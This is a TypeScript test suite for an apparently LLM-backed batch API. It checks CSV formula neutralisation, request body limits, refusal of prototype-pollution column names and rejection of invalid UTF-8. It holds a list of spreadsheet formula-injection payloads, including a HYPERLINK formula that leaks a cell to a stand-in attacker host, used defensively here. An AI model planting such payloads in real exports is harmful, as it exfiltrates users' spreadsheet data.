import type { BatchAccepted, BatchResultLine, BatchView } from '@conclave/contracts';
import type { Completion, CompletionRequest, ModelProvider } from '@conclave/llm';
import { parse } from 'csv-parse/sync';
import type { Socket } from 'socket.io-client';
import { TestStack } from './support/harness';

interface ErrorBody {
  statusCode: number;
  error: string;
  message: string;
  fields?: Record<string, string>;
}

/** What a spreadsheet would run as a formula (OWASP's list of first characters). */
const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  '+1',
  '-2+3',
  '@SUM(1)',
  '\t=1',
  '\r=1',
];
const DANGEROUS = /^[=+\-@\t\r]/;

/** The chairman `local/chair-<n>` synthesises PAYLOADS[n]; every other call gets a plain answer. */
const provider: ModelProvider = {
  name: 'payloads',
  complete(request: CompletionRequest): Promise<Completion> {
    const n = /^local\/chair-(\d+)$/.exec(request.model);
    const content = n ? PAYLOADS[Number(n[1])] : 'A plain answer.';
    return Promise.resolve({ content, servedModel: request.model, usage: null, simulated: false });
  },
};

function batchComplete(socket: Socket, batchId: string, timeoutMs = 60_000): Promise<BatchView> {
  return new Promise((resolve, reject) => {
    const timer = setTimeout(() => reject(new Error(`batch ${batchId} did not finish`)), timeoutMs);
    socket.on('batch_complete', (view: BatchView) => {
      if (view.batchId !== batchId) return;
      clearTimeout(timer);
      resolve(view);
    });
    void socket.emitWithAck('subscribe', { batchId });
  });
}

describe('hostile input and output: uploads, body limits, encodings, spreadsheet formulas', () => {
  const stack = new TestStack({
    // Any non-`sim/` model goes to the injected provider.
    OPENAI_BASE_URL: 'http://127.0.0.1:9/v1',
    BODY_LIMIT: '8kb',
    BATCH_BODY_LIMIT: '16kb',
    RATE_LIMIT_REQUESTS_PER_MINUTE: '0',
    RATE_LIMIT_DELIBERATIONS_PER_MINUTE: '0',
  });
  beforeAll(() => stack.start({ realProvider: provider }), 60_000);
  afterAll(() => stack.stop());

  const stored = async () =>
    (
      await stack.db.query(
        `SELECT (SELECT COUNT(*)::int FROM batches) AS batches, (SELECT COUNT(*)::int FROM messages) AS messages`,
      )
    )[0] as { batches: number; messages: number };

  /** Sends exactly these bytes (a string as UTF-8). */
  const post = async (path: string, body: string | Buffer, contentType: string) => {
    const response = await fetch(`${stack.baseUrl}${path}`, {
      method: 'POST',
      headers: { 'content-type': contentType },
      body: typeof body === 'string' ? body : new Uint8Array(body),
    });
    return { status: response.status, body: (await response.json()) as ErrorBody };
  };

  describe('CSV export', () => {
    it('neutralises every text cell a spreadsheet would run as a formula; JSONL and numbers stay as they are', async () => {
      const fromJson = await stack.api<BatchAccepted>('POST', '/api/batches', {
        body: {
          defaults: { councilModels: ['sim/a', 'sim/b'] },
          items: PAYLOADS.map((question, i) => ({ question, chairmanModel: `local/chair-${i}` })),
          generateTitles: false,
        },
      });
      expect(fromJson.status).toBe(202);
      const jury = { jurorModels: ['sim/j1', 'sim/j2', 'sim/j3'], foremanModel: 'sim/f' };
      const csvUpload = [
        'question,content',
        ...PAYLOADS.map((p) => `Evaluate,"${p.replace(/"/g, '""')}"`),
      ].join('\n');
      const fromCsv = await stack.api<BatchAccepted>(
        'POST',
        `/api/batches?mode=jury&defaults=${encodeURIComponent(JSON.stringify({ modeConfig: jury }))}`,
        { raw: csvUpload, headers: { 'content-type': 'text/csv' } },
      );
      expect(fromCsv.status).toBe(202);
      const socket = await stack.connect();
      await Promise.all([
        batchComplete(socket, fromJson.body.batchId),
        batchComplete(socket, fromCsv.body.batchId),
      ]);

      let neutralised = 0;
      for (const batchId of [fromJson.body.batchId, fromCsv.body.batchId]) {
        const jsonl = (await (await fetch(`${stack.baseUrl}/api/batches/${batchId}/results`)).text())
          .trim()
          .split('\n')
          .map((line) => JSON.parse(line) as BatchResultLine);
        const csvText = await (
          await fetch(`${stack.baseUrl}/api/batches/${batchId}/results?format=csv`)
        ).text();
        const records = parse(csvText, { columns: true, raw: true }) as {
          record: Record<string, string>;
          raw: string;
        }[];
        expect(records).toHaveLength(PAYLOADS.length);
        records.forEach(({ record, raw }, i) => {
          const line = jsonl[i];
          // The numeric column stays a bare number.
          expect(raw).toMatch(new RegExp(`^${line.index},`));
          expect(record.index).toBe(String(line.index));
          const text: Record<string, string> = {
            message_id: line.messageId,
            conversation_id: line.conversationId,
            mode: line.mode,
            status: line.status,
            error: line.error ?? '',
            question: line.question,
            content: line.content ?? '',
            original_question: line.originalQuestion ?? '',
            answer: line.answer ?? '',
            headline: line.headline ? JSON.stringify(line.headline) : '',
            result_url: line.resultUrl,
          };
          for (const [column, value] of Object.entries(text)) {
            if (DANGEROUS.test(value)) neutralised++;
            expect([column, record[column]]).toEqual([column, DANGEROUS.test(value) ? `'${value}` : value]);
          }
        });
        // JSONL is data, not a sheet: the payloads come back exactly as stored.
        expect(
          jsonl.map((l) => l.content ?? l.question).filter((q) => DANGEROUS.test(q)).length,
        ).toBeGreaterThanOrEqual(4);
      }
      // The council's questions and answers, and the jury's content (its question is "Evaluate").
      expect(neutralised).toBeGreaterThanOrEqual(3 * 4);
    }, 90_000);
  });

  describe('body limits', () => {
    it('names the batch limit when a batch body is over it, and the general one elsewhere', async () => {
      const pad = (n: number) => 'x'.repeat(n);
      const batch = JSON.stringify({ name: 'big', items: [{ question: pad(20_000) }] });
      const tooBig = await post('/api/batches', batch, 'application/json');
      expect(tooBig.status).toBe(413);
      expect(tooBig.body.message).toBe('Request body is larger than the 16kb limit');
      const csv = await post('/api/batches', `question\n${pad(20_000)}\n`, 'text/csv');
      expect(csv.status).toBe(413);
      expect(csv.body.message).toBe('Request body is larger than the 16kb limit');
      // Over the general limit but within the batch one: read, then refused for its content.
      const mid = await post('/api/batches', `question,colour\n${pad(10_000)},red\n`, 'text/csv');
      expect(mid.status).toBe(400);
      const deliberation = await post(
        '/api/deliberations',
        JSON.stringify({ question: 'q', pad: pad(10_000) }),
        'application/json',
      );
      expect(deliberation.status).toBe(413);
      expect(deliberation.body.message).toBe('Request body is larger than the 8kb limit');
    });
  });

  describe('CSV upload columns', () => {
    it.each(['__proto__', 'constructor', 'prototype'])(
      'refuses a column named %s, naming it',
      async (column) => {
        const before = await stored();
        const response = await post('/api/batches', `question,${column}\nWhat?,x\n`, 'text/csv');
        expect(response.status).toBe(400);
        expect(response.body.fields?.body).toMatch(new RegExp(`unknown CSV column\\(s\\) ${column}\\b`));
        expect(await stored()).toEqual(before);
      },
    );

    it('refuses a column given twice', async () => {
      const before = await stored();
      const response = await post('/api/batches', 'question,question\nOne?,Two?\n', 'text/csv');
      expect(response.status).toBe(400);
      expect(response.body.fields?.body).toMatch(/CSV column question appears more than once/);
      expect(await stored()).toEqual(before);
    });
  });

  describe('invalid UTF-8', () => {
    /** `{"question":"caf<C3 28>"}`: a two-byte sequence whose second byte is not a continuation. */
    const withBadBytes = (before: string, after: string) =>
      Buffer.concat([Buffer.from(before), Buffer.from([0xc3, 0x28]), Buffer.from(after)]);
    const cases: [string, string, Buffer, string][] = [
      [
        'a JSON deliberation',
        '/api/deliberations',
        withBadBytes('{"question":"caf', '?"}'),
        'application/json',
      ],
      [
        'a JSON batch',
        '/api/batches',
        withBadBytes('{"defaults":{"councilModels":["sim/a","sim/b"]},"items":[{"question":"caf', '?"}]}'),
        'application/json',
      ],
      ['a CSV upload', '/api/batches', withBadBytes('question\ncaf', '?\n'), 'text/csv'],
      ['a JSONL upload', '/api/batches', withBadBytes('{"question":"caf', '?"}\n'), 'application/x-ndjson'],
      [
        'a CSV upload that says it is UTF-8',
        '/api/batches',
        withBadBytes('question\ncaf', '?\n'),
        'text/csv; charset=utf-8',
      ],
    ];
    it.each(cases)('answers 400 to %s, storing nothing', async (_name, path, body, contentType) => {
      const before = await stored();
      const response = await post(path, body, contentType);
      expect(response).toEqual({
        status: 400,
        body: { statusCode: 400, error: 'Bad Request', message: 'Request body is not valid UTF-8' },
      });
      expect(await stored()).toEqual(before);
    });

    it('still reads valid UTF-8, and a CSV upload in another declared charset', async () => {
      const ok = await post(
        '/api/deliberations',
        Buffer.from('{"question":"café ☕?","councilModels":["sim/a","sim/b"],"chairmanModel":"sim/c"}'),
        'application/json',
      );
      expect(ok.status).toBe(202);
      const latin1 = await post(
        '/api/batches?mode=council',
        Buffer.from('question\ncaf\xe9?\n', 'latin1'),
        'text/csv; charset=latin1',
      );
      expect(latin1.status).toBe(202);
    });
  });
});
